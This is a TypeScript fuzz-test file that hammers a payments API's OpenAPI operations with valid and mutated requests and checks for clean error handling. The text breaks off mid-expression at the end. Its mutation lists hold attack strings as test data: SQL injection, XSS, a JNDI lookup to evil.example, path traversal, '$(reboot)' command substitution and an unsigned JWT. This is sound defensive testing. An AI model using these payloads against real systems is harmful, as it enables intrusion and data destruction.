// Fuzzing from the contract (issue 6/6, "Hardening"). Every operation of the app's own
// /openapi.json gets requests generated from its schemas: valid ones (test/routes.ts `build`
// functions create the state each needs, schema-derived variations on top), schema-generated ones
// bound to the test merchant, and valid ones mutated one field, parameter or header at a time.
// Asserted: never a 5xx; every 4xx is an RFC 9457 application/problem+json with an E### code;
// valid requests succeed; afterwards the server is healthy and the ledger balances. A last group
// sends raw bytes over a real socket (invalid UTF-8, truncated JSON, wrong content types,
// duplicate keys, 10,000-deep JSON).
//
// Deterministic by default (fixed seed, bounded runs; a one-line summary, also written to
// .fuzz-summary.json). `npm run fuzz` runs FUZZ_RUNS (default 20 times CI's) with a random seed
// printed at start; FUZZ_SEED=<seed> reproduces a run.
import { appendFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import { request as httpRequest } from 'undici';
import { afterAll, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, BASE, ledgerInvariants, newMerchant, startTestApp, type TestMerchant } from '../helpers.ts';
import { MERCHANT_ROUTES, type RouteRequest } from '../routes.ts';

// ---------------------------------------------------------------------------------------------
// Mode: CI (fixed seed, small bounded runs) or a long run (npm run fuzz).

const LONG = process.env.FUZZ === 'long';
/** Mutated requests per operation in CI; the schema-generated and valid ones scale with it. */
const CI_RUNS = 24;
const RUNS = Math.max(1, Number(process.env.FUZZ_RUNS) || (LONG ? CI_RUNS * 20 : CI_RUNS));
const SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) | 0 : LONG ? Math.floor(Math.random() * 2 ** 31) : 20_260_617;
/** FUZZ_TRACE=<file>: one line per request (status and request), for looking at what was sent. */
const TRACE = process.env.FUZZ_TRACE;
const SCHEMA_RUNS = Math.max(1, Math.round(RUNS / 3));
const VALID_RUNS = Math.max(1, Math.round(RUNS / 8));
/** Per test: generous for long runs, which send hundreds of requests per operation. */
const TEST_TIMEOUT = Math.max(30_000, RUNS * 1_000);
if (LONG || process.env.FUZZ_SEED !== undefined || process.env.FUZZ_RUNS !== undefined) {
  console.log(`fuzz: seed ${SEED}, ${RUNS} mutated requests per operation (reproduce: FUZZ_SEED=${SEED} FUZZ_RUNS=${RUNS} npm run fuzz)`);
}
const started = Date.now();

// ---------------------------------------------------------------------------------------------
// The app, its contract and the test merchants.

const t = await startTestApp();
afterAll(() => t.close());
const BODY_LIMIT = t.deps.config.bodyLimitBytes;

/** Valid requests: this merchant's state is consumed by nothing else. */
const valid = await newMerchant(t, { accountName: 'Fuzz Valid Shop' });
/** Mutated and schema-generated requests: whatever they do to this merchant cannot make a valid request fail. */
const fuzzed = await newMerchant(t, { accountName: 'Fuzz Target Shop' });
const tokenAge = new Map<TestMerchant, number>([
  [valid, Date.now()],
  [fuzzed, Date.now()],
]);

/** Access tokens live five minutes: a long run renews them. */
async function bearerOf(m: TestMerchant): Promise<string> {
  if (Date.now() - (tokenAge.get(m) ?? 0) > 3 * 60_000) {
    const res = await t.app.inject({
      method: 'POST',
      url: `${BASE}/account/getAccessToken`,
      payload: { apiKey: m.apiKey, apiSecret: m.apiSecret, organisationId: m.organisationId, merchantAccountNumber: m.merchantAccountNumber },
    });
    if (res.statusCode !== 200) throw new Error(`token renewal failed: ${res.body}`);
    m.token = res.json().accessToken;
    m.auth = { authorization: `Bearer ${m.token}` };
    tokenAge.set(m, Date.now());
  }
  return `Bearer ${m.token}`;
}

interface Schema {
  type?: string | string[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  minItems?: number;
  maxItems?: number;
  examples?: unknown[];
  'x-money'?: { min: string; max: string };
}

interface Parameter {
  in: 'query' | 'header' | 'path';
  name: string;
  required?: boolean;
  schema: Schema;
}

interface OpenApi {
  paths: Record<string, Record<string, { parameters?: Parameter[]; requestBody?: { content: Record<string, { schema: Schema }> }; security?: unknown[] }>>;
}

const docResponse = await t.app.inject({ method: 'GET', url: '/openapi.json' });
if (docResponse.statusCode !== 200) throw new Error(`GET /openapi.json answered ${docResponse.statusCode}`);
const DOC = docResponse.json() as OpenApi;

// ---------------------------------------------------------------------------------------------
// A valid request for every operation: the registry's `build` for merchant routes, and the few
// operations it leaves out (token, hosted checkout, operator, health).

type Auth = 'merchant' | 'admin' | 'none';

interface Spec {
  auth: Auth;
  status: number;
  build(m: TestMerchant): Promise<RouteRequest> | RouteRequest;
}

const uniq = () => `${Date.now().toString(36)}${Math.floor(Math.random() * 36 ** 6).toString(36)}`;
const key = (method: string, path: string) => `${method.toUpperCase()} ${path.toLowerCase()}`;

const SPECS = new Map<string, Spec>([
  ...MERCHANT_ROUTES.map((r): [string, Spec] => [key(r.method, r.url), { auth: 'merchant', status: r.status ?? 200, build: (m) => r.build(t, m) }]),
  [
    key('POST', `${BASE}/account/getAccessToken`),
    { auth: 'none', status: 200, build: (m) => ({ body: { apiKey: m.apiKey, apiSecret: m.apiSecret, organisationId: m.organisationId, merchantAccountNumber: m.merchantAccountNumber } }) },
  ],
  [
    key('POST', `${BASE}/checkout/rtp/initiate`),
    {
      auth: 'none',
      status: 200,
      build: (m) => ({
        body: {
          authentication: { apiKey: m.apiKey, apiSecret: m.apiSecret },
          merchant: { organisationId: m.organisationId, merchantAccountNumber: m.merchantAccountNumber },
          payment: { sourceReferenceNumber: `INV-${uniq()}`, description: 'Two bags of maize flour', amount: '1500.00' },
          route: { successRedirectionUrl: 'https://shop.example.mw/paid', failureRedirectionUrl: 'https://shop.example.mw/failed' },
        },
      }),
    },
  ],
  [key('POST', '/admin/v1/merchants'), { auth: 'admin', status: 201, build: () => ({ body: { accountName: 'Fuzz Created Shop' } }) }],
  [key('GET', '/admin/v1/merchants'), { auth: 'admin', status: 200, build: () => ({ query: { limit: 5 } }) }],
  [
    key('POST', '/admin/v1/merchants/{merchantAccountNumber}/fundings'),
    { auth: 'admin', status: 201, build: () => ({ body: { amount: '1500.00', bankReference: `FT${uniq()}`, receivedOn: new Date().toISOString().slice(0, 10), recordedBy: 'treasury@onekhusa.example' } }) },
  ],
  [key('GET', '/admin/v1/merchants/{merchantAccountNumber}/fundings'), { auth: 'admin', status: 200, build: () => ({ query: { limit: 5 } }) }],
  [key('POST', '/admin/v1/merchants/{merchantAccountNumber}/keys'), { auth: 'admin', status: 201, build: () => ({ body: { capturedBy: 'support@onekhusa.example' } }) }],
  // Merchant-account administration (issue 14): status changes and updates act on a fresh merchant
  // each time, never on the valid or fuzzed one (a suspended merchant's requests answer 401).
  [
    key('POST', '/admin/v1/merchants/accounts/add'),
    { auth: 'admin', status: 201, build: (m) => ({ body: { organisationId: m.organisationId, accountName: 'KHUSA VILLAGE BANKS', currencyCode: 'MWK', levelNumber: '1', capturedBy: 'johndoe@example.com' } }) },
  ],
  [
    key('POST', '/admin/v1/merchants/accounts/update'),
    {
      auth: 'admin',
      status: 200,
      build: async (m) => {
        const fresh = await newMerchant(t, { accountName: 'Fuzz Renamed Shop', organisationId: m.organisationId });
        return { body: { merchantAccountNumber: fresh.merchantAccountNumber, accountName: 'KHUSA VILLAGE BANKS', currencyCode: 'MWK', organisationId: m.organisationId, capturedBy: 'johndoe@example.com', levelNumber: 2 } };
      },
    },
  ],
  ...(['suspend', 'blacklist', 'activate'] as const).map((action): [string, Spec] => [
    key('POST', `/admin/v1/merchants/accounts/${action}`),
    {
      auth: 'admin',
      status: 200,
      build: async (m) => {
        const fresh = await newMerchant(t, { accountName: `Fuzz ${action} Shop`, organisationId: m.organisationId });
        const body = (reasonId: number) => ({ merchantAccountNumber: fresh.merchantAccountNumber, changedBy: 'johndoe@example.com', comments: `Fuzz: ${action}`, reasonId });
        if (action === 'activate') {
          const suspended = await t.app.inject({ method: 'POST', url: '/admin/v1/merchants/accounts/suspend', headers: { authorization: `Bearer ${ADMIN_TOKEN}` }, payload: body(2) });
          if (suspended.statusCode !== 200) throw new Error(`suspend failed: ${suspended.body}`);
        }
        return { body: body(action === 'activate' ? 1 : action === 'suspend' ? 2 : 3) };
      },
    },
  ]),
  [key('GET', '/admin/v1/merchants/accounts/getStatusChanges'), { auth: 'admin', status: 200, build: (m) => ({ query: { MerchantAccountNumber: m.merchantAccountNumber } }) }],
  [
    key('POST', '/admin/v1/merchants/accounts/getAll'),
    { auth: 'admin', status: 200, build: (m) => ({ body: { organisationId: m.organisationId, pageNumber: 1, numberOfReturnedRows: 10, isIncremental: false, searchBy: 'AccountName', searchText: '' } }) },
  ],
  [key('GET', '/admin/v1/emails'), { auth: 'admin', status: 200, build: () => ({ query: { pageNumber: 1, numberOfReturnedRows: 10 } }) }],
  [key('GET', '/admin/v1/rails'), { auth: 'admin', status: 200, build: () => ({}) }],
  [key('GET', '/admin/v1/rails/payouts/unknown'), { auth: 'admin', status: 200, build: () => ({ query: { limit: 10 } }) }],
  [key('GET', '/admin/v1/rails/payouts/{transactionReferenceNumber}'), { auth: 'admin', status: 404, build: () => ({}) }],
  [key('GET', '/admin/v1/rails/collections/{transactionReferenceNumber}'), { auth: 'admin', status: 404, build: () => ({}) }],
  // No rail here keeps a record of its own (no Mojaloop): a reconciliation is refused 404; no run or exception exists.
  [key('POST', '/admin/v1/rails/reconciliations'), { auth: 'admin', status: 404, build: () => ({ body: { day: new Date().toISOString().slice(0, 10) } }) }],
  [key('GET', '/admin/v1/rails/reconciliations/{runId}'), { auth: 'admin', status: 404, build: () => ({}) }],
  [key('GET', '/admin/v1/rails/exceptions'), { auth: 'admin', status: 200, build: () => ({ query: { open: 'true', limit: 10 } }) }],
  [key('POST', '/admin/v1/rails/exceptions/{exceptionId}/resolve'), { auth: 'admin', status: 404, build: () => ({ body: { action: 'accept', reason: 'Fuzz: the rail was right' } }) }],
  [key('GET', '/health/live'), { auth: 'none', status: 200, build: () => ({}) }],
  [key('GET', '/health/ready'), { auth: 'none', status: 200, build: () => ({}) }],
]);

interface Field {
  path: Array<string | number>;
  schema: Schema;
}

interface Operation {
  name: string;
  method: string;
  path: string;
  spec: Spec;
  body?: Schema;
  /** Every property of the body (nested objects and the first array item included). */
  bodyFields: Field[];
  query: Parameter[];
  headers: Parameter[];
}

/** The object schema inside `s` (itself, or the object branch of a nullable anyOf). */
function objectSchema(s: Schema): Schema | undefined {
  if (s.properties) return s;
  return s.anyOf?.map(objectSchema).find((x) => x !== undefined);
}

function fieldsOf(s: Schema, path: Array<string | number> = []): Field[] {
  const out: Field[] = [];
  for (const [name, child] of Object.entries(objectSchema(s)?.properties ?? {})) {
    const at = [...path, name];
    out.push({ path: at, schema: child });
    if (objectSchema(child)) out.push(...fieldsOf(child, at));
    if (child.items && objectSchema(child.items)) out.push(...fieldsOf(child.items, [...at, 0]));
  }
  return out;
}

const OPERATIONS: Operation[] = [];
for (const [path, operations] of Object.entries(DOC.paths)) {
  for (const [method, op] of Object.entries(operations)) {
    const name = `${method.toUpperCase()} ${path}`;
    const spec = SPECS.get(key(method, path));
    if (!spec) throw new Error(`no valid request known for ${name}: add it to test/routes.ts (merchant API) or SPECS here`);
    const body = op.requestBody?.content['application/json']?.schema;
    OPERATIONS.push({
      name,
      method: method.toUpperCase(),
      path,
      spec,
      body,
      bodyFields: body ? fieldsOf(body) : [],
      query: (op.parameters ?? []).filter((p) => p.in === 'query'),
      headers: (op.parameters ?? []).filter((p) => p.in === 'header'),
    });
  }
}

// ---------------------------------------------------------------------------------------------
// Schema → fast-check arbitrary, for the subset our schemas use.

const EMAIL_PATTERN = '^[^\\s@]+@[^\\s@]+\\.[^\\s@]+$';

/** Characters of realistic text: accents, Chichewa ŵ, Arabic (RTL), CJK, emoji, and characters SQL and HTML care about. */
const TEXT_CHARS = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789      ', 'é', 'ŵ', 'ñ', 'ß', 'İ', 'م', 'ر', 'ح', '中', '文', '😀', '🇲🇼', '\u0301', "'", '"', '%', '_', '\\', '<', '>', '&', ';', '-', '.', ','];
const LETTERS = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'é', 'ŵ', 'م', '中', '😀'];

/** Text that starts and ends with a letter, `min`–`max` code points. */
function realText(min: number, max: number): fc.Arbitrary<string> {
  const upper = Math.max(min, Math.min(max, 60));
  return fc
    .tuple(fc.constantFrom(...LETTERS), fc.array(fc.constantFrom(...TEXT_CHARS), { maxLength: Math.max(0, upper - 2) }), fc.constantFrom(...LETTERS))
    .map(([a, middle, b]) => (upper <= 1 ? a : a + middle.join('') + b))
    .filter((s) => [...s].length >= min && [...s].length <= max);
}

/** Characters of a simple class such as `[A-Za-z0-9_-]` or `[\x21-\x7e]`; undefined for anything else. */
function classChars(cls: string): string[] | undefined {
  if (cls.startsWith('^')) return undefined;
  const unescape = (s: string) => (s.startsWith('\\x') ? String.fromCharCode(parseInt(s.slice(2), 16)) : s.startsWith('\\') ? s.slice(1) : s);
  const tokens = cls.match(/\\x[0-9a-fA-F]{2}|\\.|./g) ?? [];
  if (tokens.some((tok) => /^\\[sSdDwW]$/.test(tok))) return undefined;
  const chars: string[] = [];
  for (let i = 0; i < tokens.length; i++) {
    if (tokens[i + 1] === '-' && tokens[i + 2] !== undefined) {
      const from = unescape(tokens[i]).charCodeAt(0);
      const to = unescape(tokens[i + 2]).charCodeAt(0);
      for (let c = from; c <= to; c++) chars.push(String.fromCharCode(c));
      i += 2;
    } else chars.push(unescape(tokens[i]));
  }
  return chars;
}

function patternString(s: Schema): fc.Arbitrary<string> {
  const pattern = s.pattern!;
  const min = s.minLength ?? 0;
  const max = s.maxLength ?? 64;
  const fallback = fc.constant(String(s.examples?.[0] ?? 'x'.repeat(Math.max(1, min))));
  if (pattern === EMAIL_PATTERN) {
    return fc.tuple(fc.stringMatching(/^[a-z0-9][a-z0-9._+-]{0,20}$/), fc.stringMatching(/^[a-z0-9-]{1,20}$/), fc.constantFrom('mw', 'com', 'co.mw', 'org')).map(([local, host, tld]) => `${local}@${host}.${tld}`);
  }
  if (pattern.startsWith('^[Hh][Tt][Tt][Pp]')) return fc.webUrl({ withQueryParameters: true, withFragments: true }).filter((u) => u.length >= min && u.length <= max);
  // ^[class]{n,m}$, ^[class]+$ and ^[class]*$ with the schema's length bounds.
  const simple = /^\^\[([^\]]+)\](\+|\*|\{(\d+)(?:,(\d*))?\})\$$/.exec(pattern);
  const chars = simple && classChars(simple[1]);
  if (simple && chars) {
    const lo = Math.max(min, simple[3] ? Number(simple[3]) : simple[2] === '+' ? 1 : 0);
    const hi = Math.min(max, simple[3] ? (simple[4] === undefined ? Number(simple[3]) : simple[4] === '' ? max : Number(simple[4])) : max, lo + 40);
    return fc.string({ unit: fc.constantFrom(...chars), minLength: lo, maxLength: Math.max(lo, hi) });
  }
  try {
    const re = new RegExp(pattern);
    const arb = fc.stringMatching(re).filter((x) => x.length >= min && x.length <= max && re.test(x));
    // A pattern whose matches rarely fit the lengths would make the filter spin: use the example then.
    fc.sample(arb, { numRuns: 5, seed: 1 });
    return arb;
  } catch {
    return fallback;
  }
}

function stringArbitrary(s: Schema): fc.Arbitrary<string> {
  const min = s.minLength ?? 0;
  const max = s.maxLength ?? 60;
  if (s.pattern) return patternString(s);
  switch (s.format) {
    case 'date':
      return fc.oneof(
        fc.integer({ min: -40, max: 40 }).map((days) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10)),
        fc.date({ min: new Date('1900-01-01T00:00:00Z'), max: new Date('2199-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
      );
    case 'date-time':
      return fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2199-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString());
    case 'byte':
      return fc.uint8Array({ maxLength: 96 }).map((bytes) => Buffer.from(bytes).toString('base64'));
    case 'email':
      return patternString({ ...s, pattern: EMAIL_PATTERN });
    case 'uri':
      return fc.webUrl();
  }
  return fc.oneof(
    realText(Math.max(min, 1), max).filter((x) => x.length >= min),
    fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 40) }),
  );
}

function moneyArbitrary(bounds: { min: string; max: string }): fc.Arbitrary<number | string> {
  const min = Math.round(Number(bounds.min) * 100);
  const max = Math.round(Number(bounds.max) * 100);
  const minor = fc.oneof(fc.integer({ min, max: Math.min(max, min + 1_000_000) }), fc.integer({ min, max }));
  return fc.tuple(minor, fc.boolean()).map(([m, asText]) => (asText ? (m / 100).toFixed(2) : m / 100));
}

function arbitraryFor(s: Schema): fc.Arbitrary<unknown> {
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...s.enum);
  if (s.anyOf) return fc.oneof(...s.anyOf.map(arbitraryFor));
  if (s['x-money']) return moneyArbitrary(s['x-money']);
  const types = Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
  if (types.length > 1) return fc.oneof(...types.map((type) => arbitraryFor({ ...s, type })));
  switch (types[0] ?? (s.properties ? 'object' : undefined)) {
    case 'object': {
      const props = Object.fromEntries(Object.entries(s.properties ?? {}).map(([name, child]) => [name, arbitraryFor(child)]));
      return fc.record(props, { requiredKeys: (s.required ?? []).filter((r) => r in props) });
    }
    case 'array': {
      const minLength = s.minItems ?? 0;
      return fc.array(arbitraryFor(s.items ?? {}), { minLength, maxLength: Math.max(minLength, Math.min(s.maxItems ?? 3, 3)) });
    }
    case 'string':
      return stringArbitrary(s);
    case 'integer':
      return fc.integer({ min: Math.max(s.minimum ?? -(2 ** 31), Number.MIN_SAFE_INTEGER), max: Math.min(s.maximum ?? 2 ** 31, Number.MAX_SAFE_INTEGER) });
    case 'number':
      return fc.double({ min: s.minimum ?? -1e9, max: s.maximum ?? 1e9, noNaN: true, noDefaultInfinity: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
  }
  return fc.jsonValue({ maxDepth: 2 });
}

const typesOf = (s: Schema): string[] => (s.anyOf ? s.anyOf.flatMap(typesOf) : Array.isArray(s.type) ? s.type : s.type ? [s.type] : s.properties ? ['object'] : []);

/** Free text the operation only stores or searches for: varying it keeps a request valid. */
function isFreeText(field: Field): boolean {
  const s = field.schema;
  const name = String(field.path[field.path.length - 1]);
  return typesOf(s).join() === 'string' && !s.pattern && !s.format && !s.enum && !s.anyOf && !/key|secret|url|signature|accountnumber|reference|idempotency|merchant/i.test(name);
}

// ---------------------------------------------------------------------------------------------
// Requests, sending and the assertions every response must meet.

interface Wire {
  method: string;
  url: string;
  headers: Record<string, string | string[]>;
  payload?: string | Buffer;
}

const stats = { requests: 0, s2xx: 0, s4xx: 0, other: 0, covered: new Set<string>(), validOk: new Set<string>() };
const PLACEHOLDER = (i: number) => `__fuzz_raw_${i}__`;

/** JSON text of `value`, with placeholders replaced by raw JSON text (numbers JSON.stringify cannot write, deep nesting). */
function jsonText(value: unknown, raws: string[]): string {
  let text = JSON.stringify(value) ?? 'null';
  raws.forEach((raw, i) => {
    text = text.replace(`"${PLACEHOLDER(i)}"`, () => raw);
  });
  return text;
}

/** A query string; lone surrogates (which encodeURIComponent refuses) are sent as their WTF-8 bytes. */
function queryString(query: Record<string, string | string[]>): string {
  const encode = (s: string) => (s.isWellFormed() ? encodeURIComponent(s) : [...s].map((ch) => (ch.isWellFormed() ? encodeURIComponent(ch) : `%ED%${(0xa0 | ((ch.charCodeAt(0) >> 6) & 0x1f)).toString(16).toUpperCase()}%${(0x80 | (ch.charCodeAt(0) & 0x3f)).toString(16).toUpperCase()}`)).join(''));
  return Object.entries(query)
    .flatMap(([k, v]) => (Array.isArray(v) ? v : [v]).map((item) => `${encode(k)}=${encode(item)}`))
    .join('&');
}

function short(value: unknown): string {
  const text = typeof value === 'string' ? value : (JSON.stringify(value, (_k, v) => (typeof v === 'string' && v.length > 120 ? `${v.slice(0, 120)}…(${v.length})` : v)) ?? String(value));
  return text.length > 600 ? `${text.slice(0, 600)}…(${text.length})` : text;
}

function describeWire(w: Wire): string {
  const payload = w.payload === undefined ? '' : ` body ${short(Buffer.isBuffer(w.payload) ? w.payload.toString('latin1') : w.payload)}`;
  const headers = Object.fromEntries(Object.entries(w.headers).filter(([k]) => k !== 'authorization' || !String(w.headers[k]).startsWith('Bearer ey')));
  return `${w.method} ${short(w.url)} headers ${short(headers)}${payload}`;
}

interface Response {
  statusCode: number;
  headers: Record<string, unknown>;
  body: string;
}

const ERROR_CODE = /^E\d{3}$/;

/** The contract every answer meets: a 2xx, or a 4xx RFC 9457 problem. Never a 5xx. */
function assertContract(res: Response, what: string): void {
  const context = `${what}\n→ ${res.statusCode} ${res.body.slice(0, 400)}`;
  expect(res.statusCode, context).toBeGreaterThanOrEqual(200);
  expect(res.statusCode, context).toBeLessThan(500);
  expect(res.statusCode >= 300 && res.statusCode < 400, context).toBe(false);
  if (res.statusCode < 400) return;
  expect(String(res.headers['content-type']), context).toMatch(/^application\/problem\+json/);
  const problem = JSON.parse(res.body) as Record<string, unknown>;
  expect(problem.errorCode, context).toMatch(ERROR_CODE);
  for (const field of ['type', 'title', 'detail', 'instance', 'requestId']) expect(typeof problem[field], `${field}: ${context}`).toBe('string');
  expect(problem.status, context).toBe(res.statusCode);
  expect(Array.isArray(problem.errors), context).toBe(true);
  expect((problem.errors as unknown[]).every((e) => typeof e === 'string'), context).toBe(true);
  expect(problem.requestId, context).toBe(res.headers['x-request-id']);
}

function count(op: string, status: number): void {
  stats.requests += 1;
  stats.covered.add(op);
  if (status >= 200 && status < 300) stats.s2xx += 1;
  else if (status >= 400 && status < 500) stats.s4xx += 1;
  else stats.other += 1;
}

async function send(op: Operation, w: Wire): Promise<Response> {
  const res = await t.app.inject({ method: w.method as 'GET', url: w.url, headers: w.headers, payload: w.payload });
  count(op.name, res.statusCode);
  if (TRACE) appendFileSync(TRACE, `${res.statusCode} ${describeWire(w).slice(0, 300).replace(/\n/g, ' ')}\n`);
  assertContract(res, describeWire(w));
  return res;
}

/** The parts of a request the mutations work on. */
interface Parts {
  /** The operation's path with its parameters filled in for the merchant. */
  path: string;
  query: Record<string, string | string[]>;
  body: unknown;
  headers: Record<string, string | string[]>;
  raws: string[];
  /** Whole-body replacement (JSON text or bytes), after mutation. */
  rawBody?: string;
  rawQuery?: string;
}

async function baseParts(op: Operation, m: TestMerchant): Promise<Parts> {
  const req = await op.spec.build(m);
  const headers: Record<string, string | string[]> = { ...req.headers };
  if (op.spec.auth === 'merchant') headers.authorization = await bearerOf(m);
  if (op.spec.auth === 'admin') headers.authorization = `Bearer ${ADMIN_TOKEN}`;
  return {
    // A payout reference of the right form that no rail carried: the operator's rail view answers 404.
    // A run or exception id that does not exist: answered 404.
    path: op.path
      .replace('{merchantAccountNumber}', String(m.merchantAccountNumber))
      .replace('{transactionReferenceNumber}', 'ABCDEF123456')
      .replace('{runId}', '999999999')
      .replace('{exceptionId}', '999999999'),
    query: Object.fromEntries(Object.entries(req.query ?? {}).map(([k, v]) => [k, String(v)])),
    body: req.body === undefined ? undefined : structuredClone(req.body),
    headers,
    raws: [],
  };
}

function toWire(op: Operation, p: Parts): Wire {
  const qs = p.rawQuery ?? queryString(p.query);
  const headers = { ...p.headers };
  let payload: string | undefined;
  if (p.rawBody !== undefined) payload = p.rawBody;
  else if (p.body !== undefined) payload = jsonText(p.body, p.raws);
  if (payload !== undefined && !Object.keys(headers).some((h) => h.toLowerCase() === 'content-type')) headers['content-type'] = 'application/json';
  return { method: op.method, url: qs ? `${p.path}?${qs}` : p.path, headers, payload };
}

// ---------------------------------------------------------------------------------------------
// Mutations: small descriptors (so a counterexample prints short), applied to a valid request.

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

type Value =
  | { v: Json }
  /** Raw JSON text: numbers JSON.stringify cannot write (1e999, -0, 2^53+1, 400 digits). */
  | { raw: string }
  | { huge: number; char: string }
  | { deep: number; shape: 'array' | 'object' }
  /** The valid value (or `base`, a valid-by-schema one, when there is none) with `text` spliced in at `at`: a near miss for patterns. */
  | { splice: string; at: number; base?: Json }
  | { wrap: true };

type Mutation =
  | { kind: 'missing'; where: 'body' | 'query'; path: Array<string | number> }
  | { kind: 'set'; where: 'body' | 'query'; path: Array<string | number>; value: Value }
  | { kind: 'rename'; where: 'body' | 'query'; path: Array<string | number>; to: 'upper' | 'lower' | 'swap' | 'space' }
  | { kind: 'extra'; where: 'body' | 'query'; parent: Array<string | number>; name: string; value: Value }
  | { kind: 'duplicate'; name: string; value: Value }
  | { kind: 'wholeBody'; shape: 'array' | 'emptyArray' | 'null' | 'string' | 'number' | 'empty' | 'emptyObject' | 'upperKeys' | 'lowerKeys' | 'deep' | 'single' | 'truncated' | 'bom' | 'huge' | 'tooLarge' }
  | { kind: 'rawQuery'; text: string }
  | { kind: 'header'; name: string; value: string | string[] | null };

const INJECTION = [
  "' or 1=1 --",
  "'; drop table merchants; --",
  '" or ""="',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%s%s%s%n',
  '{{7*7}}',
  '$(reboot)',
  '*)(uid=*))(|(uid=*',
  '\\',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'true',
];
const UNICODE = [
  '😀🎉👩‍👩‍👧',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'e\u0301\u0301\u0301\u0301',
  'Z̴͉̓a̶l̷g̸o',
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\u0000',
  'a\u0000b',
  '\ufeff',
  '\u200b\u200d',
  '１２３４５６７８',
  '١٢٣٤٥٦٧٨',
  '\u2028\u2029',
  '\r\n',
  '\t',
  'İı',
  '\uffff',
  '\u{10FFFF}',
];
const NUMBERS: Json[] = [1e308, -1e308, 2 ** 53 + 2, -(2 ** 53) - 2, Number.MAX_SAFE_INTEGER, 5e-324, 0.1, -1, 0, 1.5, 'NaN', 'Infinity', '-Infinity', '1e3', '0x10', '1_000', ' 12 ', '+12', '012', '', '1e308', '-0'];
const RAW_NUMBERS = ['1e999', '-1e999', '-0', '9007199254740993', '-9007199254740993', '123456789012345678901234567890', '0.000000000000000000000000000001', '1E+2', '-0.0', '9'.repeat(400)];
const WRONG_TYPES: Json[] = [{}, [], [[]], true, false, 0, 1, 'abc', '', { $gt: '' }, { value: 1 }, [1, 2]];
const EXTRA_NAMES = ['__proto__', 'constructor', 'prototype', 'isAdmin', 'x', '', ' ', 'a'.repeat(1000), '😀', '\u0000', '\ud800', 'MERCHANTACCOUNTNUMBER', 'merchantAccountNumber ', 'organisationId', 'header', 'errors', 'status'];
const HEADER_VALUES: Record<string, Array<string | string[] | null>> = {
  'x-idempotency-key': [null, '', 'short', 'a'.repeat(81), 'has spaces in it 12345', 'ключ-идемпотентности-1234', '%00%00%00%00%00%00%00%00', "' or 1=1 --abcdefgh", 'x'.repeat(8000), ['dup-key-aaaaaaaaaaaaaaa', 'dup-key-bbbbbbbbbbbbbbb']],
  'idempotency-key': ['fuzz-alias-0123456789', 'bad'],
  'accept-language': ['ny', 'NY-mw', 'en-GB,en;q=0.9,ny;q=0.8', '*', 'xx', 'en;q=abc', ',,,;;;', 'ny;q=0, en;q=0', 'q=1', 'a'.repeat(10_000), `${'en,'.repeat(5000)}ny`, '\u00ff\u00fe', ['ny', 'en']],
  merchantaccountnumber: [null, '', '12345678', '１２３４５６７８', ' 1234567 ', '9'.repeat(400), "' or 1=1 --", ['10000000', '10000001']],
  'x-merchant-account-number': ['', '99999999', 'abc', '-1'],
  'x-organisation-id': ['', 'ZZZZZZZZZZZZ', '%00', 'a'.repeat(5000)],
  authorization: [null, '', 'Bearer', 'Bearer ', 'Basic dXNlcjpwYXNz', 'Bearer not.a.jwt', `Bearer ${'a'.repeat(5000)}`, 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.', ['Bearer a', 'Bearer b']],
  'content-type': ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', 'application/json; charset=iso-8859-1', 'application/json;;;', 'application/problem+json', 'APPLICATION/JSON', 'application/jsonx', '', 'application/xml'],
  'content-encoding': ['gzip', 'br', 'identity, gzip'],
  'x-request-id': ['fuzz-request-id', '', 'a'.repeat(500), 'has space', '\u00e9'],
};
const RAW_QUERIES = ['%', '%zz', '%ff%fe', 'a=%ED%A0%80', '%00=%00', 'a=1&&&b', '=', ';', '&&&&', 'a[b]=1&a[c]=2', '__proto__[x]=1', 'constructor[prototype][x]=1', `${'a=1&'.repeat(2000)}b=2`, 'merchantAccountNumber=%F0%9F%98%80'];

function valueArbitrary(field: Field | undefined): fc.Arbitrary<Value> {
  const s = field?.schema ?? {};
  const types = typesOf(s);
  const limits: Value[] = [];
  if (s.maxLength !== undefined) limits.push({ huge: s.maxLength + 1, char: 'x' }, { huge: s.maxLength, char: 'é' });
  if (s.minLength !== undefined && s.minLength > 0) limits.push({ huge: s.minLength - 1, char: '7' });
  if (s.minimum !== undefined) limits.push({ v: s.minimum - 1 }, { v: s.minimum - 0.5 });
  if (s.maximum !== undefined) limits.push({ v: s.maximum + 1 }, { v: s.maximum + 0.5 });
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...WRONG_TYPES, null).map((v): Value => ({ v })) },
    { weight: 3, arbitrary: fc.constantFrom(...NUMBERS).map((v): Value => ({ v })) },
    { weight: 2, arbitrary: fc.constantFrom(...RAW_NUMBERS).map((raw): Value => ({ raw })) },
    { weight: 3, arbitrary: fc.constantFrom(...INJECTION, ...UNICODE).map((v): Value => ({ v })) },
    {
      weight: 3,
      arbitrary: fc
